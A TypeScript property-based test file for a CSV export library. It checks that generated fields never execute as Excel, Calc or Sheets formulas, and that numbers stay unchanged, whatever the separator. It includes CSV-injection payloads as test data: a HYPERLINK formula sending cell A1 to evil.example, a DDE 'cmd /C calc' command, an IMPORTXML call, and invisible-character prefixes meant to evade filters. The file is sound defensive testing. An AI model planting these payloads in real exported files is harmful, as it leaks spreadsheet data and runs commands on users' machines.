import fc from "fast-check";
import { expect, it } from "vitest";
import { csvField, type CsvValue } from "./csv-field.ts";
import { decimalSign, separatorOf, type CsvFormat } from "./csv-notation.ts";
import { writeCsv } from "./csv.ts";

/** Characters that a spreadsheet strips or does not show before it looks for a formula character. */
const UNSEEN = [" ", "\t", "\r", "\n", "\u00a0", "\u3000", "\u200b", "\u200f", "\u202e", "\u2060", "\u00ad", "\ufeff"];
const MORE_UNSEEN = ["\u0000", "\u001f", "\u0085", "\u180e", "\u034f", "\u3164", "\ufe0f", "\u2800", "\u{e0041}"];
const SIGNS = Array.from("=+-@＝＋－＠﹦﹢﹣﹫");
const BODIES = [
  `HYPERLINK("https://evil.example?x="&A1,"more")`,
  `cmd|' /C calc'!A0`,
  "1+1",
  "SUM(A1:A9)",
  '"',
  "",
  `IMPORTXML(CONCAT("//e","vil"),"//a")`,
  "2+5+cmd|' /C calc'!A0",
];

const hostile = fc
  .tuple(
    fc.array(fc.constantFrom(...UNSEEN, ...MORE_UNSEEN, "'", '"', ",", ";", "|", "x"), { maxLength: 4 }),
    fc.constantFrom(...SIGNS, ""),
    fc.oneof(fc.constantFrom(...BODIES), fc.string({ unit: "binary", maxLength: 12 }), fc.string({ unit: "grapheme" })),
  )
  .map(([before, sign, body]) => before.join("") + sign + body);

const grouped = new Intl.NumberFormat("en", { maximumFractionDigits: 8 });
/** A number as a cell value, and its expected text in the file. */
const number: fc.Arbitrary<{ value: CsvValue; is: string }> = fc.oneof(
  fc.integer().map((amount) => ({ value: amount, is: String(amount) })),
  fc.integer().map((amount) => ({ value: BigInt(amount), is: String(amount) })),
  fc
    .tuple(fc.bigInt(-(10n ** 24n), 10n ** 24n), fc.nat(99_999_999))
    .map(([whole, part]) => `${whole}.${part}`)
    .map((is) => ({ value: { number: is }, is })),
  fc
    .integer({ min: -999_999_999, max: -1 })
    .map((amount) => ({ value: String(amount / 100), is: String(amount / 100) })),
  fc.integer().map((amount) => ({ value: grouped.format(amount), is: grouped.format(amount) })),
);

/** Splits a file as a program that treats each of `separators` as one; a quote counts at the start of a field only. */
const fieldsOf = (file: string, separators: string): string[] => {
  const fields: string[] = [];
  for (let at = 0; at < file.length; at += 1) {
    let field = "";
    if (file[at] === '"') {
      for (at += 1; at < file.length; at += 1) {
        if (file[at] !== '"') field += file[at]!;
        else if (file[at + 1] === '"') field += file[(at += 1)]!;
        else break;
      }
      at += 1;
    }
    for (; at < file.length && !separators.includes(file[at]!) && file[at] !== "\r"; at += 1) field += file[at]!;
    fields.push(field);
    if (file[at] === "\r") at += 1;
  }
  return fields;
};

const FORMATS = [
  { notation: "machine", locale: "de", timeZone: "UTC" },
  { notation: "screen", locale: "en-GB", timeZone: "UTC" },
  { notation: "screen", locale: "de", timeZone: "UTC" },
] as const satisfies readonly CsvFormat[];

const NUMERIC = /^[+-]?[\d,]+(\.\d+)?$/;
const seenIn = (field: string) =>
  field.replace(/^[\s\p{C}\p{Default_Ignorable_Code_Point}\u2800]+/u, "").normalize("NFKC");
/** Whether Excel, Calc or Sheets would run a field as a formula, by the one that strips most. */
const runs = (field: string) => {
  const seen = seenIn(field);
  return (/^[=+\-@]/.test(seen) || /^[\t\r]/.test(field)) && !NUMERIC.test(field);
};
/** The same for a program that does not know the file's separator: fields that begin with a number hold more. */
const runsElsewhere = (field: string) =>
  /^[=+\-@]/.test(seenIn(field)) && !/^[+-]?\d[\d,.]*($|[",;|\t])/.test(seenIn(field));

it.each([
  ["a;=cmd|' /C calc'!A0;b", "\"a;'=cmd|' /C calc'!A0;b\""],
  ["first\n=1+1", '"first\n\'=1+1"'],
  ['a;"=1+1"', '"a;\'""=1+1"""'],
  ["5;-3, +4", '"5;-3,\' +4"'],
])("csvField: %j, a formula behind another separator → %s", (text, field) => {
  expect(csvField(text, FORMATS[0])).toBe(field);
});

it("writeCsv: 20,000 generated rows → no field runs as a formula, numbers are unchanged", async () => {
  await fc.assert(
    fc.asyncProperty(hostile, number, fc.constantFrom(...FORMATS), async (text, { value, is }, format) => {
      const separator = separatorOf(format);
      const amountIs = typeof value === "string" ? is : is.replace(".", decimalSign(format));
      const columns = [
        { header: "Note", value: () => text },
        { header: "Amount", value: () => value },
      ];
      let file = "";
      for await (const piece of writeCsv(columns, [[undefined]], format)) file += piece.text;
      // A decimal comma is not quoted in a file with semicolons.
      for (const separators of separator === "," ? [separator, ",;\t"] : [separator]) {
        const [, , note = "", amount, ...more] = fieldsOf(file, separators);
        expect(runs(note)).toBe(false);
        // Only apostrophes are added.
        expect(note.replaceAll("'", "")).toBe(text.replaceAll("'", ""));
        expect([amount, more]).toEqual([amountIs, []]);
      }
      // A program that takes another separator, or each line end as the end of a row even inside quotes.
      for (const separators of [",", ";", "\t", "|"])
        for (const rows of [[file], file.split(/\r\n|\r|\n/)])
          for (const row of rows)
            for (const field of fieldsOf(row, separators)) expect(runsElsewhere(field), field).toBe(false);
    }),
    { seed: 20_261_125, numRuns: 20_000 },
  );
});
